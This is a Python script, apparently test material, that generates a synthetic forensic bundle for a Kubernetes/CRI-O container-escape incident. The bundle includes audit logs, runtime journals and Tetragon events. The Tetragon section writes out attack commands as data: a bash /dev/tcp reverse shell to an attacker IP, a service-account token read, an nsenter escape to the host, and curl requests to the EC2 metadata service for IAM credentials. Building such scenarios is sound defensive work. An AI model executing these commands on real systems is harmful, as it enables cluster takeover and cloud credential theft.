#!/usr/bin/env python3
"""Writes the CRI-O / kubeadm scenario bundle (bundle/ next to this script); README.md tells the story, the known
answers and each file's provenance. Deterministic: same bytes on every run (gzip members carry mtime 0 and no name).
The /var/log/containers entries are relative symlinks, as the kubelet makes them. Run: python3 make_crio_scenario.py"""
import base64, calendar, json, os, shutil, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
DAY = "2026-11-24"

sys.dont_write_bytecode = True  # no __pycache__ among the test resources
sys.path.insert(0, os.path.dirname(HERE))
from bundle_files import BundleFiles  # noqa: E402 (beside the scenarios)
_files = BundleFiles(DAY, OUT)
ts, tus, tsec, write, jl = _files.ts, _files.tus, _files.tsec, _files.write, _files.jl

def epoch(hms):
    return calendar.timegm(time.strptime(DAY + "T" + hms, "%Y-%m-%dT%H:%M:%S"))

# ------------------------------------------------------------------------------------------------------ entities
# a kubeadm cluster on EC2 (no EKS): CRI-O 1.30, the AWS VPC CNI (pod addresses are the ENI's secondary addresses;
# traffic leaving the VPC is SNATed to the node's primary address), node names = the hosts' names (kubeadm default)
ACCT, REGION, CLUSTER, AZ = "314159265358", "eu-central-1", "ml-kubeadm", "eu-central-1a"
VPC, SUBNET = "vpc-0c4e6a8b0d2f41357", "subnet-07a9c1e3f5b7d9024"
CP, CP_IP = "ip-10-40-1-10", "10.40.1.10"           # the control plane node (apiserver, its audit log)
NODE, NODE_IP = "ip-10-40-3-17", "10.40.3.17"       # the worker both tenants share
INSTANCE, ENI = "i-0a9b8c7d6e5f40312", "eni-03f5e7a9c1b3d5f70"
NODE_UID = "7d3e9a1c-2b4f-4c6d-8e0a-1b3c5d7e9f02"
NODE_ROLE_NAME = "ml-kubeadm-node"
NODE_ROLE = "arn:aws:iam::%s:role/%s" % (ACCT, NODE_ROLE_NAME)
NODE_SESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, NODE_ROLE_NAME, INSTANCE)
NODE_KEY = "ASIAUMLNODE000000017"
ATTACKER = "203.0.113.88"
# the exposed notebook: JupyterLab with an empty token behind a NodePort (30888)
NS = "ml"
JUP, JUP_UID, JUP_IP = "jupyter-0", "5e1f3a7c-9b2d-4e6f-8a0c-2d4f6b8a0c1e", "10.40.3.91"
JUP_SANDBOX, JUP_CTR = "4b1d" + "6e" * 30, "c0de" + "51" * 30
JUP_REPO = "quay.io/jupyter/scipy-notebook"
JUP_DIGEST = "sha256:" + "9f3a" * 16
JUP_SA = "notebook"
JUP_SA_USER = "system:serviceaccount:%s:%s" % (NS, JUP_SA)
SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:" + NS, "system:authenticated"]
TOKEN_JTI = "JTI=8b2e4f6a-1c3d-4e5f-9a7b-0c2d4e6f8a1b"
# the attacker's privileged pod (hostPID, privileged; deleted at 10:40: its address is reused at 10:52)
BATCH_NS = "ml-batch"
SYNC, SYNC_UID, SYNC_IP = "sync-7x2q", "a3c5e7f9-1b2d-4f6a-8c0e-3d5f7a9b1c2e", "10.40.3.120"
SYNC_SANDBOX, SYNC_CTR = "77aa" + "0d" * 30, "5ca1" + "e2" * 30
SYNC_REPO = "docker.io/library/ubuntu"
SYNC_DIGEST = "sha256:" + "2b7c" * 16
# bystanders: the other tenant's pods on the same node (its web front, since 08:00; its cart service, created at
# 10:52 and given the address the attacker's pod had)
SHOP = "shop"
WEB, WEB_UID, WEB_IP = "web-6b7c8d9f5-p4q5r", "0e2c4a6f-8d1b-4a3c-9e5f-7a1b3c5d7e9f", "10.40.3.44"
WEB_SANDBOX, WEB_CTR = "4b1e" + "7a" * 30, "b0b0" + "3c" * 30
WEB_REPO = "registry.shop.example/web"
WEB_DIGEST = "sha256:" + "6d1e" * 16
CART, CART_UID, CART_IP = "cart-5d8f7b9c4-x2x9k", "f1e2d3c4-b5a6-4978-8a9b-0c1d2e3f4a5b", SYNC_IP
CART_SANDBOX, CART_CTR = "4b1f" + "8b" * 30, "ca7e" + "4d" * 30
CART_REPO = "registry.shop.example/cart"
CART_DIGEST = "sha256:" + "8e2f" * 16
DB_IP = "10.40.20.5"   # the RDS instance both the notebook's secrets and the cart service point at

# ---------------------------------------------------------------------------- Kubernetes audit (kubeadm, Metadata)
_audit_n = [0]
def audit(t, us, verb, uri, user, groups, source_ip, obj_ref, code=200, ua="kubectl/v1.30.4 (linux/amd64) kubernetes/3b05ff5",
          extra=None, annotations=None):
    """An audit.k8s.io/v1 Event at level Metadata (the cluster's policy for everything but a few core resources): no
    requestObject / responseObject, so a pod create names no node, a binding no target, a status patch no address."""
    _audit_n[0] += 1
    u = {"username": user, "groups": groups}
    if extra:
        u["extra"] = extra
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
         "auditID": "6c2a9e41-%04x-4%03x-8a00-%012d" % (_audit_n[0], _audit_n[0], _audit_n[0]), "stage": "ResponseComplete",
         "requestURI": uri, "verb": verb, "user": u, "sourceIPs": [source_ip], "userAgent": ua, "objectRef": obj_ref,
         "responseStatus": {"metadata": {}, "code": code},
         "requestReceivedTimestamp": tus(t, us), "stageTimestamp": tus(t, us + 4210),
         "annotations": annotations or {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}
    return e

def pod_ref(name, ns, sub=None):
    r = {"resource": "pods", "namespace": ns, "name": name, "apiVersion": "v1"}
    if sub: r["subresource"] = sub
    return r

KUBELET_UA = "kubelet/v1.30.4 (linux/amd64) kubernetes/3b05ff5"
SCHED_UA = "kube-scheduler/v1.30.4 (linux/amd64) kubernetes/3b05ff5/scheduler"
RS_UA = "kube-controller-manager/v1.30.4 (linux/amd64) kubernetes/3b05ff5/system:serviceaccount:kube-system:replicaset-controller"
CTL_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]

def token_extra():
    """The notebook pod's bound service account token, as the apiserver adds its claims to the user (1.30+)."""
    return {"authentication.kubernetes.io/credential-id": [TOKEN_JTI],
            "authentication.kubernetes.io/node-name": [NODE], "authentication.kubernetes.io/node-uid": [NODE_UID],
            "authentication.kubernetes.io/pod-name": [JUP], "authentication.kubernetes.io/pod-uid": [JUP_UID]}

def audit_log():
    ev = []
    node = ("system:node:" + NODE, ["system:nodes", "system:authenticated"])
    sched = ("system:kube-scheduler", ["system:authenticated"])
    # the other tenant's cart service, created by its ReplicaSet at 10:52, bound to the node, its status patched
    ev.append(audit("10:52:03", 118220, "create", "/api/v1/namespaces/%s/pods" % SHOP,
                    "system:serviceaccount:kube-system:replicaset-controller", CTL_GROUPS, CP_IP, pod_ref(CART, SHOP),
                    code=201, ua=RS_UA))
    ev.append(audit("10:52:03", 402877, "create", "/api/v1/namespaces/%s/pods/%s/binding" % (SHOP, CART), *sched, CP_IP,
                    pod_ref(CART, SHOP, "binding"), code=201, ua=SCHED_UA))
    ev.append(audit("10:52:09", 91333, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (SHOP, CART), *node, NODE_IP,
                    pod_ref(CART, SHOP, "status"), ua=KUBELET_UA))
    # the notebook's service account token, read in the reverse shell, used from the notebook pod itself
    sa = lambda t, us, verb, uri, ref, code=200, **kw: audit(t, us, verb, uri, JUP_SA_USER, SA_GROUPS, JUP_IP, ref,
                                                          code=code, extra=token_extra(), **kw)
    ev.append(sa("10:07:15", 220431, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
                 {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}, code=201))
    ev.append(sa("10:07:31", 61874, "list", "/api/v1/namespaces/%s/pods?limit=500" % BATCH_NS,
                 {"resource": "pods", "namespace": BATCH_NS, "apiVersion": "v1"}))
    ev.append(sa("10:08:02", 330918, "create", "/api/v1/namespaces/%s/pods?fieldManager=kubectl-create&fieldValidation=Strict" % BATCH_NS,
                 pod_ref(SYNC, BATCH_NS), code=201,
                 annotations={"authorization.k8s.io/decision": "allow",
                              "authorization.k8s.io/reason": "RBAC: allowed by RoleBinding \"notebook-batch/ml-batch\" of Role \"batch-runner\" to ServiceAccount \"notebook/ml\"",
                              "pod-security.kubernetes.io/enforce-policy": "privileged:latest"}))
    ev.append(audit("10:08:02", 512004, "create", "/api/v1/namespaces/%s/pods/%s/binding" % (BATCH_NS, SYNC), *sched, CP_IP,
                    pod_ref(SYNC, BATCH_NS, "binding"), code=201, ua=SCHED_UA))
    ev.append(audit("10:08:19", 77120, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (BATCH_NS, SYNC), *node, NODE_IP,
                    pod_ref(SYNC, BATCH_NS, "status"), ua=KUBELET_UA))
    ev.append(sa("10:09:02", 14511, "create", "/api/v1/namespaces/%s/pods/%s/exec?command=bash&container=sync&stdin=true&stdout=true&tty=true" % (BATCH_NS, SYNC),
                 pod_ref(SYNC, BATCH_NS, "exec"), code=101))
    ev.append(sa("10:40:05", 700313, "delete", "/api/v1/namespaces/%s/pods/%s" % (BATCH_NS, SYNC), pod_ref(SYNC, BATCH_NS)))
    ev.sort(key=lambda e: e["requestReceivedTimestamp"])
    return ev

# ---------------------------------------------------------------------------- kubectl snapshots (the responder's)
def container_status(name, cid, image, digest, started):
    return {"containerID": "cri-o://" + cid, "image": image, "imageID": image.rsplit(":", 1)[0] + "@" + digest,
            "lastState": {}, "name": name, "ready": True, "restartCount": 0, "started": True,
            "state": {"running": {"startedAt": started}}}

def pod(ns, name, uid, ip, sa, cname, image, digest, cid, created, owner, labels, extra_spec=None):
    spec = {"containers": [{"name": cname, "image": image, "imagePullPolicy": "IfNotPresent"}], "nodeName": NODE,
            "serviceAccountName": sa, "serviceAccount": sa, "restartPolicy": "Always", "schedulerName": "default-scheduler"}
    spec.update(extra_spec or {})
    return {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"creationTimestamp": tsec(created), "labels": labels, "name": name, "namespace": ns,
                         "ownerReferences": [owner], "resourceVersion": str(2210000 + int(uid[:4], 16) % 9999), "uid": uid},
            "spec": spec,
            "status": {"conditions": [{"lastProbeTime": None, "lastTransitionTime": tsec(created), "status": "True", "type": "Ready"}],
                       "containerStatuses": [container_status(cname, cid, image, digest, tsec(created))],
                       "hostIP": NODE_IP, "hostIPs": [{"ip": NODE_IP}], "phase": "Running", "podIP": ip,
                       "podIPs": [{"ip": ip}], "qosClass": "BestEffort", "startTime": tsec(created)}}

def pods_snapshot():
    """`kubectl get pods -A -o json` at 11:30 (a PodList, kind List): the attacker's pod is gone; its address is the
    cart service's."""
    owner = lambda kind, name, uid: {"apiVersion": "apps/v1", "kind": kind, "name": name, "uid": uid, "controller": True,
                                     "blockOwnerDeletion": True}
    items = [
        pod(NS, JUP, JUP_UID, JUP_IP, JUP_SA, "notebook", JUP_REPO + ":2024-11-18", JUP_DIGEST, JUP_CTR, "07:40:12",
            owner("StatefulSet", "jupyter", "2c4e6a8b-0d1f-4a3c-8e5b-7d9f1b3d5f7a"), {"app": "jupyter"}),
        pod(SHOP, CART, CART_UID, CART_IP, "cart", "cart", CART_REPO + ":4.2.0", CART_DIGEST, CART_CTR, "10:52:03",
            owner("ReplicaSet", "cart-5d8f7b9c4", "3d5f7a9b-1c3e-4b5d-9f7a-8e0a2c4e6a8b"), {"app": "cart", "pod-template-hash": "5d8f7b9c4"}),
        pod(SHOP, WEB, WEB_UID, WEB_IP, "web", "web", WEB_REPO + ":7.1.3", WEB_DIGEST, WEB_CTR, "08:00:41",
            owner("ReplicaSet", "web-6b7c8d9f5", "4e6a8b0c-2d4f-4c6e-8a0b-9f1b3d5f7a9c"), {"app": "web", "pod-template-hash": "6b7c8d9f5"}),
    ]
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}

def services_snapshot():
    """`kubectl get services -A -o json` at 11:30 (a ServiceList, kind List): the notebook's NodePort Service (30888 ->
    8888, selector app=jupyter), the web front's (31080 -> 80, selector app=web) and the API server's ClusterIP."""
    def svc(ns, name, uid, created, cluster_ip, ports, selector, typ="NodePort"):
        spec = {"clusterIP": cluster_ip, "clusterIPs": [cluster_ip], "internalTrafficPolicy": "Cluster",
                "ipFamilies": ["IPv4"], "ipFamilyPolicy": "SingleStack", "ports": ports, "sessionAffinity": "None",
                "type": typ}
        if typ == "NodePort":
            spec["externalTrafficPolicy"] = "Cluster"
        if selector:
            spec["selector"] = selector
        return {"apiVersion": "v1", "kind": "Service",
                "metadata": {"creationTimestamp": tsec(created), "name": name, "namespace": ns,
                             "resourceVersion": str(1880000 + int(uid[:4], 16) % 9999), "uid": uid},
                "spec": spec, "status": {"loadBalancer": {}}}
    items = [
        svc("default", "kubernetes", "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d", "06:10:02", "10.96.0.1",
            [{"name": "https", "port": 443, "protocol": "TCP", "targetPort": 6443}], None, "ClusterIP"),
        svc(NS, "jupyter", "6f7a8b9c-0d1e-4f2a-9b3c-4d5e6f7a8b9c", "07:39:58", "10.96.140.12",
            [{"name": "http", "nodePort": 30888, "port": 8888, "protocol": "TCP", "targetPort": 8888}], {"app": "jupyter"}),
        svc(SHOP, "web", "7a8b9c0d-1e2f-4a3b-8c4d-5e6f7a8b9c0d", "08:00:30", "10.96.77.31",
            [{"name": "http", "nodePort": 31080, "port": 80, "protocol": "TCP", "targetPort": 80}], {"app": "web"}),
    ]
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}

def events():
    """`kubectl get events -A -o json` at 10:55 (an hour of events: the attacker's pod's whole life is there)."""
    def ev(n, ns, name, uid, reason, msg, t, typ="Normal", component="kubelet", field=None):
        io_ = {"apiVersion": "v1", "kind": "Pod", "name": name, "namespace": ns, "uid": uid, "resourceVersion": str(2209000 + n)}
        if field: io_["fieldPath"] = field
        e = {"apiVersion": "v1", "count": 1, "eventTime": None, "firstTimestamp": tsec(t), "involvedObject": io_, "kind": "Event",
             "lastTimestamp": tsec(t), "message": msg,
             "metadata": {"creationTimestamp": tsec(t), "name": "%s.%016x" % (name, 0x187b0e2a00000000 + n * 7919),
                          "namespace": ns, "resourceVersion": str(2209100 + n), "uid": "ee%06x-3c4d-4e5f-8a6b-%012d" % (n, n)},
             "reason": reason, "type": typ}
        if component == "kubelet":
            e.update({"reportingComponent": "kubelet", "reportingInstance": NODE, "source": {"component": "kubelet", "host": NODE}})
        else:
            e.update({"reportingComponent": "default-scheduler", "reportingInstance": "", "source": {"component": "default-scheduler"},
                      "eventTime": tus(t, 402000 + n), "firstTimestamp": None, "lastTimestamp": None, "action": "Binding",
                      "count": None})
            e = {k: v for k, v in e.items() if v is not None or k in ("eventTime",)}
        return e
    f = "spec.containers{sync}"
    items = [
        ev(1, BATCH_NS, SYNC, SYNC_UID, "Scheduled", "Successfully assigned %s/%s to %s" % (BATCH_NS, SYNC, NODE), "10:08:02",
           component="default-scheduler"),
        ev(2, BATCH_NS, SYNC, SYNC_UID, "Pulled", "Container image \"%s:24.04\" already present on machine" % SYNC_REPO, "10:08:18", field=f),
        ev(3, BATCH_NS, SYNC, SYNC_UID, "Created", "Created container sync", "10:08:18", field=f),
        ev(4, BATCH_NS, SYNC, SYNC_UID, "Started", "Started container sync", "10:08:19", field=f),
        ev(5, BATCH_NS, SYNC, SYNC_UID, "Killing", "Stopping container sync", "10:40:05", field=f),
        ev(6, SHOP, CART, CART_UID, "Scheduled", "Successfully assigned %s/%s to %s" % (SHOP, CART, NODE), "10:52:03",
           component="default-scheduler"),
        ev(7, SHOP, CART, CART_UID, "Started", "Started container cart", "10:52:08", field="spec.containers{cart}"),
    ]
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}

# ------------------------------------------------------------------------- CRI-O: journal, container logs (CRI)
def crio_journal():
    """`journalctl -u crio -o json`: CRI-O 1.30 logs logrus text to stderr, journald keeps each line as MESSAGE."""
    entries = []
    def entry(n, hms, frac_ns, msg, fields):
        rt = epoch(hms) * 1000000 + frac_ns // 1000
        line = 'time="%s" level=info msg="%s"' % (ts(hms, frac_ns), msg.replace('"', '\\"')) + "".join(" %s=%s" % kv for kv in fields)
        entries.append({"__CURSOR": "s=2f4a6c8e0b1d43f5a7c9e1b3d5f7a9c1;i=%x;b=9d8c7b6a5f4e43d2c1b0a9f8e7d6c5b4;m=%x;t=%x;x=%016x"
                                      % (0x1c2a0 + n, 0x4e5f6a7b + n * 997, rt, 0x6c5b4a3928170000 + n),
                        "__REALTIME_TIMESTAMP": str(rt), "__MONOTONIC_TIMESTAMP": str(9133000000 + n * 1000),
                        "_BOOT_ID": "9d8c7b6a5f4e43d2c1b0a9f8e7d6c5b4", "PRIORITY": "6", "SYSLOG_FACILITY": "3",
                        "_UID": "0", "_GID": "0", "_MACHINE_ID": "ec2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d", "_HOSTNAME": NODE,
                        "_TRANSPORT": "stdout", "SYSLOG_IDENTIFIER": "crio", "_COMM": "crio", "_EXE": "/usr/bin/crio",
                        "_CMDLINE": "/usr/bin/crio", "_SYSTEMD_CGROUP": "/system.slice/crio.service", "_SYSTEMD_UNIT": "crio.service",
                        "_SYSTEMD_SLICE": "system.slice", "_SYSTEMD_INVOCATION_ID": "5a4b3c2d1e0f49a8b7c6d5e4f3a2b1c0",
                        "_STREAM_ID": "1b2c3d4e5f6a47b8c9d0e1f2a3b4c5d6", "_PID": "1187", "MESSAGE": line})
    rid = lambda n: "%08x-%04x-4%03x-8%03x-%012x" % (0x5eed0000 + n, n, n, n, n)
    n = [0]
    def add(hms, frac, msg, *fields):
        n[0] += 1
        entry(n[0], hms, frac, msg, (("id", rid(n[0])),) + fields)
    run, create, start = "/runtime.v1.RuntimeService/RunPodSandbox", "/runtime.v1.RuntimeService/CreateContainer", "/runtime.v1.RuntimeService/StartContainer"
    stop, remove = "/runtime.v1.RuntimeService/StopPodSandbox", "/runtime.v1.RuntimeService/RemoveContainer"
    # the attacker's pod: sandbox, its container, stopped and removed at 10:40 (its log directory with it)
    add("10:08:17", 51200000, "Running pod sandbox: %s/%s/POD" % (BATCH_NS, SYNC), ("name", run))
    add("10:08:17", 903114000, "Got pod network &{Name:%s Namespace:%s ID:%s UID:%s NetNS:/var/run/netns/3e5f7a9b-1c2d-4e6f-8a0b-2c4d6e8f0a1b Networks:[] RuntimeConfig:map[aws-cni:{IP: MAC: PortMappings:[] Bandwidth:<nil> IpRanges:[]}] Aliases:map[]}"
        % (SYNC, BATCH_NS, SYNC_SANDBOX, SYNC_UID), ("name", run))
    add("10:08:18", 11542000, "Ran pod sandbox %s with infra container: %s/%s/POD" % (SYNC_SANDBOX, BATCH_NS, SYNC), ("name", run))
    add("10:08:18", 612000000, "Creating container: %s/%s/sync" % (BATCH_NS, SYNC), ("name", create))
    add("10:08:18", 998301000, "Created container %s: %s/%s/sync" % (SYNC_CTR, BATCH_NS, SYNC), ("name", create))
    add("10:08:19", 2114000, "Starting container: %s" % SYNC_CTR, ("containerID", SYNC_CTR), ("name", start))
    add("10:08:19", 40277000, "Started container", ("PID", "61874"), ("containerID", SYNC_CTR),
        ("description", "%s/%s/sync" % (BATCH_NS, SYNC)), ("name", start), ("sandboxID", SYNC_SANDBOX))
    add("10:40:05", 812000000, "Stopping container: %s (timeout: 30s)" % SYNC_CTR, ("name", "/runtime.v1.RuntimeService/StopContainer"))
    add("10:40:36", 9311000, "Stopped container %s: %s/%s/sync" % (SYNC_CTR, BATCH_NS, SYNC), ("name", "/runtime.v1.RuntimeService/StopContainer"))
    add("10:40:36", 521000000, "Stopping pod sandbox: %s" % SYNC_SANDBOX, ("name", stop))
    add("10:40:36", 733000000, "Stopped pod sandbox: %s" % SYNC_SANDBOX, ("name", stop))
    add("10:40:37", 104000000, "Removing container: %s" % SYNC_CTR, ("name", remove))
    add("10:40:37", 220000000, "Removed container %s: %s/%s/sync" % (SYNC_CTR, BATCH_NS, SYNC), ("name", remove))
    # the other tenant's cart service: a new sandbox at 10:52 (the CNI gives it the freed address)
    add("10:52:05", 300000000, "Running pod sandbox: %s/%s/POD" % (SHOP, CART), ("name", run))
    add("10:52:06", 14000000, "Ran pod sandbox %s with infra container: %s/%s/POD" % (CART_SANDBOX, SHOP, CART), ("name", run))
    add("10:52:07", 880000000, "Created container %s: %s/%s/cart" % (CART_CTR, SHOP, CART), ("name", create))
    add("10:52:08", 4000000, "Started container", ("PID", "70412"), ("containerID", CART_CTR),
        ("description", "%s/%s/cart" % (SHOP, CART)), ("name", start), ("sandboxID", CART_SANDBOX))
    return jl(entries)

def cri(lines):
    return "".join("%s %s %s %s\n" % l for l in lines)

def jupyter_log():
    """The notebook server's log (JupyterLab 4, jupyter_server 2): the terminal the attacker opened (no token)."""
    L = lambda hms, ms, lvl, text: (ts(hms, ms * 1000000 + 4217), "stderr", "F", "[%s %s %s.%03d ServerApp] %s" % (lvl, DAY, hms, ms, text))
    return cri([
        L("07:40:20", 118, "I", "Jupyter Server 2.14.2 is running at:"),
        L("07:40:20", 118, "I", "http://jupyter-0:8888/lab"),
        L("07:40:20", 119, "W", "All authentication is disabled.  Anyone who can connect to this server will be able to run code."),
        L("10:02:14", 530, "I", "302 GET / (@%s) 0.71ms" % NODE_IP),
        L("10:03:58", 207, "I", "New terminal with automatic name: 1"),
        L("10:04:31", 744, "I", "Kernel started: 3f6a9c1e-5b7d-4e2f-8a0c-6e8b0d2f4a6c"),
    ])

def web_log():
    out = []
    for i in range(12):
        hms = time.strftime("%H:%M:%S", time.gmtime(epoch("10:00:00") + i * 300))
        out.append((ts(hms, 3000 * i + 11), "stdout", "F",
                    '10.40.1.%d - - [24/Nov/2026:%s +0000] "GET /catalog?page=%d HTTP/1.1" 200 5120 "-" "ELB-HealthChecker/2.0"' % (30 + i % 2, hms, i)))
    return cri(out)

def cart_log():
    return cri([(ts("10:52:08", 410000000), "stdout", "F", "cart 4.2.0 listening on :8080"),
                (ts("11:00:02", 18000000), "stdout", "F", "db pool ready (%s:5432, 8 connections)" % DB_IP)])

# ------------------------------------------------------------------------------------------------------- Tetragon
def tproc(exec_id, pid, binary, args, start, pod=None, parent=None, uid=0, cwd="/"):
    p = {"exec_id": exec_id, "pid": pid, "uid": uid, "cwd": cwd, "binary": binary, "arguments": args,
         "flags": "execve clone", "start_time": start, "auid": 4294967295}
    if pod:
        ns, name, ctr, cname, repo, digest, tag, cstart, labels, workload, kind = pod
        p["pod"] = {"namespace": ns, "name": name,
                    "container": {"id": "cri-o://" + ctr, "name": cname,
                                  "image": {"id": repo + "@" + digest, "name": repo + ":" + tag},
                                  "start_time": cstart, "pid": 1},
                    "pod_labels": labels, "workload": workload, "workload_kind": kind}
        p["docker"] = ctr[:31]
    if parent is not None:
        p["parent_exec_id"] = parent
    p["tid"] = pid
    return p

JUP_POD = (NS, JUP, JUP_CTR, "notebook", JUP_REPO, JUP_DIGEST, "2024-11-18", tsec("07:40:18"), {"app": "jupyter"}, "jupyter", "StatefulSet")
SYNC_POD = (BATCH_NS, SYNC, SYNC_CTR, "sync", SYNC_REPO, SYNC_DIGEST, "24.04", tsec("10:08:19"), {"run": SYNC}, SYNC, "Pod")
WEB_POD = (SHOP, WEB, WEB_CTR, "web", WEB_REPO, WEB_DIGEST, "7.1.3", tsec("08:00:47"), {"app": "web"}, "web", "Deployment")

def tev(kind, body, t):
    return {kind: body, "node_name": NODE, "time": t}

def kprobe(proc, parent, fn, args, t, policy):
    b = {"process": proc, "function_name": fn, "args": args, "action": "KPROBE_ACTION_POST", "policy_name": policy}
    if parent is not None: b["parent"] = parent
    return tev("process_kprobe", b, t)

def connect(saddr, daddr, sport, dport):
    return [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": saddr, "daddr": daddr,
                          "sport": sport, "dport": dport, "cookie": "18446623491029417984", "state": "TCP_SYN_SENT"}}]

def tetragon():
    eid = lambda pid, t: base64.b64encode(("%s:%d:%d" % (NODE, epoch(t) * 10**9 % 10**15, pid)).encode()).decode()
    lab = tproc(eid(3012, "07:40:18"), 3012, "/opt/conda/bin/python3.11", "/opt/conda/bin/jupyter-lab --ServerApp.token= --ip=0.0.0.0",
                ts("07:40:18", 200000000), JUP_POD, None, uid=1000, cwd="/home/jovyan")
    out = [tev("process_exec", {"process": lab}, ts("07:40:18", 200400000))]
    # the Jupyter terminal: a shell the server spawns (terminado), then the reverse shell
    term = tproc(eid(58120, "10:03:58"), 58120, "/bin/bash", "-l", ts("10:03:58", 300000000), JUP_POD, lab["exec_id"], uid=1000, cwd="/home/jovyan")
    rev = tproc(eid(58177, "10:04:31"), 58177, "/bin/bash", "-c \"bash -i >& /dev/tcp/%s/4444 0>&1\"" % ATTACKER,
                ts("10:04:31", 902000000), JUP_POD, term["exec_id"], uid=1000, cwd="/home/jovyan")
    env = tproc(eid(58203, "10:05:02"), 58203, "/usr/bin/env", "", ts("10:05:02", 117000000), JUP_POD, rev["exec_id"], uid=1000, cwd="/home/jovyan")
    cat = tproc(eid(58219, "10:05:40"), 58219, "/usr/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                ts("10:05:40", 60000000), JUP_POD, rev["exec_id"], uid=1000, cwd="/home/jovyan")
    kctl = tproc(eid(58301, "10:07:14"), 58301, "/tmp/kubectl", "auth can-i --list -n ml-batch", ts("10:07:14", 880000000),
                 JUP_POD, rev["exec_id"], uid=1000, cwd="/tmp")
    out += [
        tev("process_exec", {"process": term, "parent": lab}, ts("10:03:58", 300300000)),
        tev("process_exec", {"process": rev, "parent": term}, ts("10:04:31", 902300000)),
        kprobe(rev, term, "tcp_connect", connect(JUP_IP, ATTACKER, 40988, 4444), ts("10:04:31", 905000000), "connect-egress"),
        tev("process_exec", {"process": env, "parent": rev}, ts("10:05:02", 117300000)),
        tev("process_exec", {"process": cat, "parent": rev}, ts("10:05:40", 60300000)),
        kprobe(cat, rev, "security_file_permission", [{"file_arg": {"path": "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_24_07_40_18.2214765093/token",
                                                                   "permission": "-rw-r--r--"}}, {"int_arg": 4}],
               ts("10:05:40", 60800000), "sa-token-read"),
        tev("process_exec", {"process": kctl, "parent": rev}, ts("10:07:14", 880300000)),
    ]
    # the privileged pod: kubectl exec (runc/conmon on the host: crun exec), nsenter into the host's namespaces, IMDSv2
    conmon = tproc(eid(61990, "10:09:02"), 61990, "/usr/bin/crun", "--systemd-cgroup exec --pid-file /var/run/crio/exec-pid-%s --process /tmp/exec-process-2218812 --detach --tty %s"
                   % (SYNC_CTR[:12], SYNC_CTR), ts("10:09:02", 80000000), None, eid(1187, "07:30:00"))
    sh = tproc(eid(61995, "10:09:02"), 61995, "/usr/bin/bash", "", ts("10:09:02", 95000000), SYNC_POD, conmon["exec_id"])
    nse = tproc(eid(62010, "10:09:20"), 62010, "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- bash", ts("10:09:20", 410000000), SYNC_POD, sh["exec_id"])
    hb = tproc(eid(62011, "10:09:20"), 62011, "/usr/bin/bash", "", ts("10:09:20", 412000000), SYNC_POD, nse["exec_id"])
    put = tproc(eid(62044, "10:10:03"), 62044, "/usr/bin/curl", "-s -X PUT http://169.254.169.254/latest/api/token -H \"X-aws-ec2-metadata-token-ttl-seconds: 21600\"",
                ts("10:10:03", 5000000), SYNC_POD, hb["exec_id"])
    get = tproc(eid(62051, "10:10:09"), 62051, "/usr/bin/curl", "-s -H \"X-aws-ec2-metadata-token: AQAEAK9x...\" http://169.254.169.254/latest/meta-data/iam/security-credentials/%s" % NODE_ROLE_NAME,
                ts("10:10:09", 301000000), SYNC_POD, hb["exec_id"])
    psql = tproc(eid(62200, "10:15:30"), 62200, "/usr/bin/psql", "-h %s -U mlapp -d features -c \\dt" % DB_IP, ts("10:15:30", 0), SYNC_POD, sh["exec_id"])
    out += [
        tev("process_exec", {"process": sh, "parent": conmon}, ts("10:09:02", 95300000)),
        tev("process_exec", {"process": nse, "parent": sh}, ts("10:09:20", 410300000)),
        tev("process_exec", {"process": hb, "parent": nse}, ts("10:09:20", 412300000)),
        tev("process_exec", {"process": put, "parent": hb}, ts("10:10:03", 5300000)),
        kprobe(put, hb, "tcp_connect", connect(NODE_IP, "169.254.169.254", 51822, 80), ts("10:10:03", 7000000), "connect-egress"),
        tev("process_exec", {"process": get, "parent": hb}, ts("10:10:09", 301300000)),
        kprobe(get, hb, "tcp_connect", connect(NODE_IP, "169.254.169.254", 51830, 80), ts("10:10:09", 303000000), "connect-egress"),
        tev("process_exec", {"process": psql, "parent": sh}, ts("10:15:30", 300000)),
        kprobe(psql, sh, "tcp_connect", connect(SYNC_IP, DB_IP, 45110, 5432), ts("10:15:30", 2000000), "connect-egress"),
    ]
    # the other tenant's web front: its server and an ordinary helper it runs
    nginx = tproc(eid(4410, "08:00:47"), 4410, "/usr/sbin/nginx", "-g \"daemon off;\"", ts("08:00:47", 100000000), WEB_POD, None, cwd="/")
    rot = tproc(eid(59880, "10:06:00"), 59880, "/usr/bin/find", "/var/cache/nginx -mmin +60 -delete", ts("10:06:00", 0), WEB_POD, nginx["exec_id"])
    out += [tev("process_exec", {"process": nginx}, ts("08:00:47", 100400000)),
            tev("process_exec", {"process": rot, "parent": nginx}, ts("10:06:00", 300000))]
    out.sort(key=lambda e: e["time"])
    return jl(out)

# ------------------------------------------------------------------------------------------ Falco (JSON, k8s <NA>)
def falco():
    """Falco 0.39 as a DaemonSet whose chart mounts containerd's socket only: on this CRI-O node it gets no container
    metadata (container.id from the cgroup, everything else <NA> in the output, null in output_fields).
    /var/log/falco/events.json (file_output, json_output: true)."""
    def alert(hms, frac, rule, prio, text, fields, tags):
        t = ts(hms, frac)
        return {"hostname": NODE, "output": "%s.%09d: %s %s" % (hms, frac, prio, text), "output_fields": fields,
